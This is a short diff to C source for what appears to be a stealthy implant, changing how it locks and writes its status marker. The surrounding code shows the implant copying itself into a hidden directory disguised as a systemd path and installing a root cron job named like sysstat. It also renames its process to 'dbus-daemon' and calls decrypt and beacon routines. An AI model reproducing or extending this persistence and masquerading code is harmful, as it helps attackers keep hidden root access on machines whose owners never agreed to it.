@@ -25,7 +25,6 @@
 #define SCRATCH "/.muss-scratch"
 #define STORE_DIR "/var/lib/.systemd-private"
 #define STORE STORE_DIR "/udevd"
-#define LOCK STORE_DIR "/.lock"
 #define MARK STORE_DIR "/.mark"
 #define CRON "/etc/cron.d/sysstat-collect"
 #define CRON_LINE "*/7 * * * * root " STORE " >/dev/null 2>&1\n"
@@ -135,6 +134,7 @@ int main(void)
 {
 	char self[PATH_MAX];
 	ssize_t n;
+	const char *text;
 	int image, lock, answer;
 
 	if (access(SCRATCH, F_OK) < 0)
@@ -148,7 +148,7 @@ int main(void)
 	folders(STORE_DIR);
 	copy(image, STORE);
 	close(image);
-	lock = open(LOCK, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
+	lock = open(MARK, O_RDWR | O_CREAT | O_CLOEXEC, 0644);
 	if (lock < 0 || flock(lock, LOCK_EX | LOCK_NB) < 0)
 		return 0;               /* it runs already */
 
@@ -164,7 +164,9 @@ int main(void)
 	prctl(PR_SET_NAME, "dbus-daemon");
 	answer = decrypt_and_call();
 	beacon(answer);
-	write_file(MARK, answer == 42 ? "resident\n" : "resident without code\n");
+	text = answer == 42 ? "resident\n" : "resident without code\n";
+	if (ftruncate(lock, 0) < 0 || pwrite(lock, text, strlen(text), 0) < 0)
+		perror(MARK);
 	while (!access(SCRATCH, F_OK))
 		nanosleep(&(struct timespec){.tv_nsec = 200000000}, NULL);
 	return 0;
